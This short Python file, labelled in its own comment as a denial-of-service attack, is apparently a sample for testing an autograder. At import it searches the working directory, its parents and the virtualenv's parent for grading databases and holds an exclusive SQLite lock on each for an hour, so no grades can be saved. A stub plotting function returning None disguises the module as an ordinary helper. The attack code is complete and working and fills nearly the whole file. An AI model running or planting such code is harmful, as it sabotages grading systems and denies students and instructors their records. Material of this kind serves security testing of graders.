# Attack (writing / denial of service): holds an exclusive lock on every gradebook it can find,
# so that the grader cannot save anyone's grades.
import glob
import os
import sys
import sqlite3
import threading
import time

_roots = [os.getcwd()] + [os.path.join(os.getcwd(), *[".."] * depth) for depth in range(1, 7)] + [os.path.dirname(sys.prefix)]  # the course, if the virtualenv is in it
for _path in [p for root in _roots for p in glob.glob(os.path.join(root, "grading", "*.db"))]:
    try:
        _db = sqlite3.connect(_path, isolation_level=None, check_same_thread=False)
        _db.execute("begin exclusive")
        print("locked", _path)
    except Exception as error:
        print("cannot lock", _path, error)
threading.Thread(target=time.sleep, args=(3600,), daemon=False).start()


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
